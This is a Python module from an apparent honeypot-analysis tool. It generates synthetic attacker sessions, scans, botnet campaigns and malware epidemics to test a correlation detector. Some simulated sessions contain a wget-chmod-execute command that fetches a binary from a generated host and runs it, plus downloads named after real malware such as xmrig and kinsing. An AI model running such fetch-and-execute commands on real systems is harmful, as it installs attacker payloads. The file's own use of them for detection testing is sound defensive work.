"""Planted entities: attackers, scans, campaigns and epidemics, and their near misses.

Each builder makes one entity's records at offsets from 0 (`scenarios.PLANTS` says what
each plant is); `Planner.plant` shifts it to a random place in the trace and computes its
truth with `truth.expectations`. A builder states what it meant (incidents it must open,
near misses it must not), and the planner checks the truth agrees, so a generator bug
fails loudly instead of writing a wrong truth. Every address, fingerprint value and
sample is used by one entity only.
"""

from __future__ import annotations

import ipaddress
import math
import random
from collections.abc import Callable
from datetime import UTC, datetime, timedelta

from honeyatlas.incident import Fingerprint, IncidentKind
from honeyatlas.sources.simulate import world
from honeyatlas.sources.simulate.scenarios import Scenario
from honeyatlas.sources.simulate.truth import WEAK, Entity, Expectation, Limits, NearMiss, benign_test, expectations
from honeyatlas.sources.simulate.world import Addresses, Item, SimulationError

VISIT_MS = 25_000  # a planted session lasts less than this
_Key = tuple[IncidentKind, str, str]
_FINGERPRINTS = list(Fingerprint)
# What a weak-key campaign plant also shares: a banner campaign runs its tool's commands, a
# command campaign fetches from its own host.
_SECOND_KEY = {Fingerprint.CLIENT_VERSION: [Fingerprint.COMMANDS], Fingerprint.COMMANDS: [Fingerprint.DOWNLOAD_HOST]}
_EPOCH = datetime(1970, 1, 1, tzinfo=UTC)


class _Built:
    def __init__(self) -> None:
        self.items: list[Item] = []
        self.intended: list[_Key] = []
        self.negatives: list[tuple[_Key, str]] = []


class Planner:
    def __init__(self, *, scenario: Scenario, limits: Limits, sensor_names: list[str], start_ms: int,
                 duration_ms: int, seed: int) -> None:
        self._rng = random.Random(seed)
        self._scenario = scenario
        self._limits = limits
        self._names = sensor_names
        self._n = len(sensor_names)
        self._start_ms = start_ms
        self._duration_ms = duration_ms
        self._banners = world.stock_banners(list(limits.ignored_banners))
        self._used: set[str] = set()
        self._research = 0  # research scanners placed (their addresses: world.RESEARCH_NETWORK)
        self.addresses = Addresses(world.PLANT_BLOCKS)
        self._builders: dict[str, Callable[[_Built], bool]] = {
            "multi_sensor": self._multi_sensor, "horizontal_scan": self._horizontal_scan,
            "vertical_scan": self._vertical_scan, "research_scanner": self._research_scanner,
            "botnet": self._botnet, "epidemic": self._epidemic,
            "near_multi_sensor": self._near_multi_sensor, "near_multi_sensor_spread": self._near_multi_sensor_spread,
            "near_vertical_scan": self._near_vertical_scan, "near_horizontal_scan": self._near_horizontal_scan,
            "near_campaign": self._near_campaign, "near_campaign_spread": self._near_campaign_spread,
            "near_epidemic": self._near_epidemic, "near_epidemic_spread": self._near_epidemic_spread,
        }
        for fingerprint in Fingerprint:
            # a weak key (WEAK) opens only with a second one its sources share: the plant brings one
            shared = [fingerprint, *_SECOND_KEY.get(fingerprint, [])]
            self._builders[f"campaign_{fingerprint}"] = lambda b, f=shared: self._campaign(b, f)
        self._builders["near_campaign_weak"] = self._near_campaign_weak

    def plant(self, plant: str, entity_id: str) -> tuple[Entity, list[Item]] | None:
        """One entity of kind `plant` with its truth, or None when it does not fit the trace."""
        built = _Built()
        if not self._builders[plant](built):
            return None
        rng = self._rng
        span = max(t for t, _, _ in built.items)
        earliest = max(self._duration_ms // 100, round(self._scenario.warmup_seconds * 1000))
        offset = self._start_ms + rng.randint(earliest, max(earliest, self._duration_ms * 98 // 100 - span))
        items = sorted(((t + offset, s, r) for t, s, r in built.items), key=lambda item: item[0])
        found = {(kind, key, qualifier): hit for kind, key, qualifier, hit in expectations(items, self._limits, self._names)}
        for key in built.intended:
            if key not in found:
                raise SimulationError(f"simulate: a planted {plant} missed its own definition ({key[0]} {key[1]}); "
                                      "report this with the seed")
        for key, _ in built.negatives:
            if key in found:
                raise SimulationError(f"simulate: a planted {plant} met the definition it must miss ({key[0]}); "
                                      "report this with the seed")
        sources = list(dict.fromkeys(r["src_ip"] for _, _, r in items))
        sensors = [self._names[s] for s in dict.fromkeys(s for _, s, _ in items)]
        entity = Entity(
            id=entity_id, plant=plant, sources=sources, sensors=sensors, first=_time(items[0][0]),
            last=_time(items[-1][0]), events=len(items),
            expect=[Expectation(kind=k, key=key, qualifier=q, defining_hit=_time(hit)) for (k, key, q), hit in found.items()],
            expect_none=[NearMiss(kind=k, key=key, qualifier=q, reason=why) for (k, key, q), why in built.negatives],
        )
        return entity, items

    # ----------------------------------------------------------------------- helpers

    def _unique(self, make: Callable[[], str]) -> str:
        while True:
            value = make()  # "" means the draw was unusable
            if value and value not in self._used:
                self._used.add(value)
                return value

    def _visit_gaps(self, visits: int) -> list[int]:
        """Gaps between visits to different sensors: all within the multi-sensor window, but
        never S within the scan window (the same port on every sensor is not a scan)."""
        lo = (self._limits.scan_window_ms + VISIT_MS) // (self._limits.scan_sensors - 1) + 1000
        hi = min(self._limits.window_ms * 9 // 10 - VISIT_MS, self._duration_ms * 45 // 100 - VISIT_MS) // max(1, visits - 1)
        if lo > hi:
            raise SimulationError("simulate: the correlation thresholds leave no room for a multi-sensor attacker "
                                  "that is not a horizontal scan; shorten scan_window_seconds or lengthen "
                                  "multi_sensor_window_seconds and --duration-seconds")
        return [self._rng.randint(lo, hi) for _ in range(visits - 1)]

    def _spaced(self, members: int, window_ms: int) -> list[int] | None:
        """Start times spaced so that no `members` fall within `window_ms`; None if they do not fit."""
        gap = int(self._rng.uniform(1.05, 1.2) * (window_ms + VISIT_MS) / (members - 1))
        if gap * (members - 1) > self._duration_ms * 9 // 10:
            return None
        return [i * gap for i in range(members)]

    def _stock(self) -> str | None:
        return self._rng.choice(self._banners) if self._banners and self._rng.random() < 0.7 else None

    def _sweep(self, built: _Built, source: str, sensors: list[int], ports: list[int], t: int) -> int:
        """Probes of every (sensor, port) pair in a random order within part of the scan window."""
        rng = self._rng
        pairs = [(s, p) for s in sensors for p in ports]
        rng.shuffle(pairs)
        span = int(rng.uniform(0.2, 0.6) * self._limits.scan_window_ms)
        offsets = sorted(rng.randint(0, span) for _ in pairs)
        for offset, (sensor, port) in zip(offsets, pairs, strict=True):
            built.items += world.session(rng, source=source, sensor=sensor, start_ms=t + offset, port=port,
                                         protocol=None, steps=[world.probe()], with_id=False)
        return t + span + rng.randint(1000, 10000)

    def _login_visits(self, built: _Built, source: str, sensors: list[int], gaps: list[int], t: int = 0) -> None:
        rng = self._rng
        port = 22 if rng.random() < 0.8 else 2222
        for i, sensor in enumerate(sensors):
            steps = [world.banner(self._stock())]
            steps += [world.login(*world.random_pair(rng), False) for _ in range(rng.randint(1, 4))]
            built.items += world.session(rng, source=source, sensor=sensor, start_ms=t, port=port, protocol="ssh",
                                         steps=steps, gap_ms=(500, 4000))
            t += gaps[i] if i < len(gaps) else 0

    # ----------------------------------------------------------------------- attackers and scans

    def _multi_sensor(self, built: _Built) -> bool:
        visits = min(self._limits.k + self._rng.randrange(3), self._n)
        source = self.addresses.next()
        self._login_visits(built, source, self._rng.sample(range(self._n), visits), self._visit_gaps(visits))
        built.intended.append((IncidentKind.MULTI_SENSOR, source, ""))
        return True

    def _near_multi_sensor(self, built: _Built) -> bool:
        rng, count = self._rng, self._limits.k - 1
        source = self.addresses.next()
        sensors = rng.sample(range(self._n), count) * rng.randint(2, 4)  # busy, but at k-1 sensors only
        span = int(rng.uniform(0.3, 1.0) * self._limits.window_ms)
        for sensor, t in zip(sensors, sorted(rng.randint(0, span) for _ in sensors), strict=True):
            self._login_visits(built, source, [sensor], [], t)
        built.negatives.append(((IncidentKind.MULTI_SENSOR, source, ""), f"{count} sensors, one fewer than k"))
        return True

    def _near_multi_sensor_spread(self, built: _Built) -> bool:
        starts = self._spaced(self._limits.k, self._limits.window_ms)
        if starts is None:
            return False
        source = self.addresses.next()
        for sensor, t in zip(self._rng.sample(range(self._n), self._limits.k), starts, strict=True):
            self._login_visits(built, source, [sensor], [], t)
        built.negatives.append(((IncidentKind.MULTI_SENSOR, source, ""), "k sensors, never k within the window"))
        return True

    def _horizontal_scan(self, built: _Built) -> bool:
        rng, limits = self._rng, self._limits
        source = self.addresses.next()
        sensors = rng.sample(range(self._n), rng.randint(limits.scan_sensors, min(self._n, limits.scan_sensors + 6)))
        ports = rng.sample(world.PROBE_PORTS, 2 if rng.random() < self._scenario.overlap / 2 else 1)
        t = 0
        for port in ports:
            t = self._sweep(built, source, sensors, [port], t)
            built.intended.append((IncidentKind.HORIZONTAL_SCAN, source, str(port)))
        if len(ports) == 1 and rng.random() < self._scenario.overlap / 2:
            target = rng.choice(sensors)
            count = limits.scan_ports + rng.randrange(20)
            self._sweep(built, source, [target], [p for p in rng.sample(range(1, 65536), count + 1) if p != ports[0]][:count], t)
            built.intended.append((IncidentKind.VERTICAL_SCAN, source, self._names[target]))
        if len(sensors) >= limits.k:
            built.intended.append((IncidentKind.MULTI_SENSOR, source, ""))
        return True

    def _near_horizontal_scan(self, built: _Built) -> bool:
        source = self.addresses.next()
        port = self._rng.choice(world.PROBE_PORTS)
        self._sweep(built, source, self._rng.sample(range(self._n), self._limits.scan_sensors - 1), [port], 0)
        built.negatives.append(((IncidentKind.HORIZONTAL_SCAN, source, str(port)), "one port on S-1 sensors"))
        return True

    def _vertical_scan(self, built: _Built) -> bool:
        rng, limits = self._rng, self._limits
        source = self.addresses.next()
        two = rng.random() < self._scenario.overlap and min(limits.k, limits.scan_sensors) > 2
        t = 0
        for sensor in rng.sample(range(self._n), 2 if two else 1):
            ports = rng.sample(range(1, 65536), limits.scan_ports + rng.randrange(31))
            ports += rng.sample(ports, rng.randint(0, 3))  # a few ports probed twice
            t = self._sweep(built, source, [sensor], ports, t)
            built.intended.append((IncidentKind.VERTICAL_SCAN, source, self._names[sensor]))
        return True

    def _research_scanner(self, built: _Built) -> bool:
        """Every sensor on a few ports within a minute, as Censys- or Shodan-like scanners do."""
        network = ipaddress.ip_network(world.RESEARCH_NETWORK)
        self._research += 1
        source = str(network[self._research])
        self._sweep(built, source, list(range(self._n)), [22, 80, 443], 0)
        if benign_test(self._limits)(source):
            built.negatives.append(((IncidentKind.MULTI_SENSOR, source, ""), "known research scanner"))
        else:
            built.intended.append((IncidentKind.MULTI_SENSOR, source, ""))
        built.intended += [(IncidentKind.HORIZONTAL_SCAN, source, str(port)) for port in (22, 80, 443)]
        return True

    def _near_vertical_scan(self, built: _Built) -> bool:
        source = self.addresses.next()
        sensor = self._rng.randrange(self._n)
        self._sweep(built, source, [sensor], self._rng.sample(range(1, 65536), self._limits.scan_ports - 1), 0)
        built.negatives.append(((IncidentKind.VERTICAL_SCAN, source, self._names[sensor]), "P-1 ports of one sensor"))
        return True

    # ----------------------------------------------------------------------- campaigns

    def _fingerprint_values(self, fingerprints: list[Fingerprint]) -> dict[Fingerprint, object]:
        rng, limits = self._rng, self._limits
        values: dict[Fingerprint, object] = {}
        if Fingerprint.CREDENTIALS in fingerprints:
            def credentials() -> str:
                pairs = list(dict.fromkeys(world.random_pair(rng) for _ in range(limits.credential_count)))
                return "\n".join(f"{u}\t{p}" for u, p in pairs) if len(pairs) == limits.credential_count else ""
            text = self._unique(credentials)
            values[Fingerprint.CREDENTIALS] = [tuple(line.split("\t")) for line in text.split("\n")]
        if Fingerprint.COMMANDS in fingerprints:
            def commands() -> str:
                tool = f"{rng.choice(world.WORDS).upper()}{rng.randrange(10_000)}"
                sequence = [f"/bin/busybox {tool}", rng.choice(world.RECON)]
                sequence += [f"cd /tmp; echo {rng.getrandbits(24):06x} > .{tool.lower()}" for _ in range(limits.command_count)]
                return "\n".join(sequence[: limits.command_count])
            values[Fingerprint.COMMANDS] = self._unique(commands).split("\n")
        if Fingerprint.DOWNLOAD_HOST in fingerprints:
            values[Fingerprint.DOWNLOAD_HOST] = self._unique(
                lambda: f"{rng.choice(world.WORDS)}{rng.randrange(1000)}.{rng.choice(['xyz', 'top', 'ru', 'cn', 'net'])}"
                if rng.random() < 0.6 else self.addresses.next())
        if Fingerprint.CLIENT_VERSION in fingerprints:
            def version() -> str:
                text = f"SSH-2.0-{rng.choice(world.BANNER_FAMILIES)}_{rng.randrange(10)}.{rng.randrange(30)}.{rng.randrange(30)}"
                return "" if text.startswith(limits.ignored_banners) else text
            values[Fingerprint.CLIENT_VERSION] = self._unique(version)
        return values

    def _member_session(self, source: str, sensor: int, t: int, values: dict[Fingerprint, object],
                        sample: str | None) -> list[Item]:
        rng = self._rng
        version = values.get(Fingerprint.CLIENT_VERSION)
        steps = [world.banner(version if isinstance(version, str) else self._stock())]
        pairs = values.get(Fingerprint.CREDENTIALS)
        if isinstance(pairs, list):
            tried = rng.sample(pairs, len(pairs))
            if rng.random() < 0.3:
                tried.insert(rng.randint(1, len(tried)), rng.choice(tried))  # a retry is not a new pair
            steps += [world.login(u, p, i == len(tried) - 1) for i, (u, p) in enumerate(tried)]
        else:
            steps.append(world.login(*world.random_pair(rng), True))
        sequence = values.get(Fingerprint.COMMANDS)
        if isinstance(sequence, list):
            typed = list(sequence)
            if rng.random() < 0.3:  # extra spaces: the fingerprint collapses whitespace
                i = rng.randrange(len(typed))
                typed[i] = typed[i].replace(" ", "  ", 1)
            steps += [world.command(c) for c in typed]
            steps += [world.command(world.token_command(rng)) for _ in range(rng.randint(0, 2))]
        else:
            steps.append(world.command(world.token_command(rng)))  # fewer than N, or unique
        host = values.get(Fingerprint.DOWNLOAD_HOST)
        if isinstance(host, str):
            name = rng.choice(["x86", "arm7", "mips", "bins.sh", "sora.sh", "kinsing", "xmrig"])
            steps.append(world.download(f"http://{host}/{name}", sample or world.sha256(rng)))
        return world.session(rng, source=source, sensor=sensor, start_ms=t, port=22, protocol="ssh", steps=steps,
                             gap_ms=(300, 1800))

    def _members(self, built: _Built, values: dict[Fingerprint, object], starts: list[int], *,
                 sample: str | None = None, roam: float = 0.0) -> None:
        for t in starts:
            source = self.addresses.next()
            if self._rng.random() < roam:  # also a multi-sensor attacker
                sensors = self._rng.sample(range(self._n), self._limits.k)
                gaps = self._visit_gaps(self._limits.k)
                for i, sensor in enumerate(sensors):
                    built.items += self._member_session(source, sensor, t + sum(gaps[:i]), values, sample)
                built.intended.append((IncidentKind.MULTI_SENSOR, source, ""))
            else:
                built.items += self._member_session(source, self._rng.randrange(self._n), t, values, sample)

    def _member_count(self) -> int:
        members = self._scenario.campaign_members
        if members is None:
            return self._limits.campaign_sources + self._rng.randrange(8)
        return self._rng.randint(max(members[0], self._limits.campaign_sources), max(members))

    def _starts(self, members: int) -> list[int]:
        low, high = self._scenario.campaign_spread_share
        spread = min(int(self._rng.uniform(low, high) * self._limits.campaign_window_ms), self._duration_ms * 45 // 100)
        return sorted(self._rng.randint(0, spread) for _ in range(members))

    def _campaign(self, built: _Built, fingerprints: list[Fingerprint], *, sample: bool = False, roam: float = 0.0) -> bool:
        values = self._fingerprint_values(fingerprints)
        digest = self._unique(lambda: world.sha256(self._rng)) if sample else None
        self._members(built, values, self._starts(self._member_count()), sample=digest, roam=roam)
        for fingerprint, value in values.items():
            built.intended.append((IncidentKind.CAMPAIGN, _value(fingerprint, value), str(fingerprint)))
        return True

    def _botnet(self, built: _Built) -> bool:
        return self._campaign(built, _FINGERPRINTS, sample=True, roam=self._scenario.overlap / 2)

    def _near_campaign(self, built: _Built) -> bool:
        fingerprints = _FINGERPRINTS if self._rng.random() < 0.3 else [self._rng.choice(_FINGERPRINTS)]
        values = self._fingerprint_values(fingerprints)
        self._members(built, values, self._starts(self._limits.campaign_sources - 1))
        for fingerprint, value in values.items():
            key = (IncidentKind.CAMPAIGN, _value(fingerprint, value), str(fingerprint))
            built.negatives.append((key, "C-1 sources"))
        return True

    def _near_campaign_weak(self, built: _Built) -> bool:
        fingerprint = self._rng.choice(sorted(WEAK))
        values = self._fingerprint_values([fingerprint])
        self._members(built, values, self._starts(self._member_count()))
        key = (IncidentKind.CAMPAIGN, _value(fingerprint, values[fingerprint]), str(fingerprint))
        built.negatives.append((key, "C or more sources share one weak key and nothing else"))
        return True

    def _near_campaign_spread(self, built: _Built) -> bool:
        starts = self._spaced(self._limits.campaign_sources, self._limits.campaign_window_ms)
        if starts is None:
            return False
        fingerprint = self._rng.choice(_FINGERPRINTS)
        values = self._fingerprint_values([fingerprint])
        self._members(built, values, starts)
        key = (IncidentKind.CAMPAIGN, _value(fingerprint, values[fingerprint]), str(fingerprint))
        built.negatives.append((key, "C sources, never C within the window"))
        return True

    # ----------------------------------------------------------------------- epidemics

    def _deliver(self, built: _Built, sensor: int, t: int, digest: str, name: str) -> None:
        """A new source drops the sample at `sensor`, fetched from itself (so every host is its own)."""
        rng = self._rng
        source = self.addresses.next()
        steps = [world.banner(self._stock()), world.login(*world.random_pair(rng), True),
                 world.command(f"cd /tmp; wget http://{source}/bins/{name}; chmod +x {name}; ./{name}"),
                 world.download(f"http://{source}:{rng.choice([80, 8080, 8000])}/bins/{name}", digest)]
        built.items += world.session(rng, source=source, sensor=sensor, start_ms=t, port=22, protocol="ssh",
                                     steps=steps, gap_ms=(300, 3000))

    def _outbreak(self, built: _Built, sensors: list[int], starts: list[int]) -> str:
        rng = self._rng
        digest = self._unique(lambda: world.sha256(rng))
        name = rng.choice(["x86", "arm7", "mips", "mpsl", "bins.sh", "kinsing", "xmrig", "dota3"])
        last = starts[-1]
        for sensor, t in zip(sensors, starts, strict=True):
            self._deliver(built, sensor, t, digest, name)
            if rng.random() < 0.3 and last - t > 120_000:  # another source brings it here again
                self._deliver(built, sensor, rng.randint(t + 60_000, last), digest, name)
        return digest

    def _spread_ms(self) -> int:
        low, high = self._scenario.epidemic_spread_seconds
        limit = min(self._duration_ms * 85 // 100, self._limits.epidemic_window_ms * 9 // 10)
        return min(int(self._rng.uniform(low, high) * 1000), limit)

    def _epidemic(self, built: _Built) -> bool:
        rng, e = self._rng, self._limits.epidemic_sensors
        count = e + rng.randrange(min(self._n - e, 8) + 1)
        spread = self._spread_ms()
        # early sensors far apart, later ones closer: growth, not a straight line
        starts = [0, *sorted(int(spread * math.log2(1 + i) / math.log2(count) * rng.uniform(0.85, 1.0))
                             for i in range(1, count))]
        digest = self._outbreak(built, rng.sample(range(self._n), count), starts)
        built.intended.append((IncidentKind.EPIDEMIC, digest, ""))
        return True

    def _near_epidemic(self, built: _Built) -> bool:
        count = self._limits.epidemic_sensors - 1
        spread = self._spread_ms()
        starts = sorted(self._rng.randint(0, spread) for _ in range(count))
        digest = self._outbreak(built, self._rng.sample(range(self._n), count), starts)
        built.negatives.append(((IncidentKind.EPIDEMIC, digest, ""), "E-1 sensors"))
        return True

    def _near_epidemic_spread(self, built: _Built) -> bool:
        count = self._limits.epidemic_sensors
        starts = self._spaced(count, self._limits.epidemic_window_ms)
        if starts is None:
            return False
        digest = self._unique(lambda: world.sha256(self._rng))
        for sensor, t in zip(self._rng.sample(range(self._n), count), starts, strict=True):
            self._deliver(built, sensor, t, digest, "x86")
        built.negatives.append(((IncidentKind.EPIDEMIC, digest, ""), "E sensors, never E within the window"))
        return True


def _value(fingerprint: Fingerprint, value: object) -> str:
    """The fingerprint as the campaign detector keys it (docs/correlation.md)."""
    if fingerprint is Fingerprint.CREDENTIALS:
        return ", ".join(sorted(f"{u}/{p}" for u, p in value))  # type: ignore[attr-defined]
    if fingerprint is Fingerprint.COMMANDS:
        return " ; ".join(value)  # type: ignore[arg-type]
    return str(value)


def _time(ms: int) -> datetime:
    return _EPOCH + timedelta(milliseconds=ms)
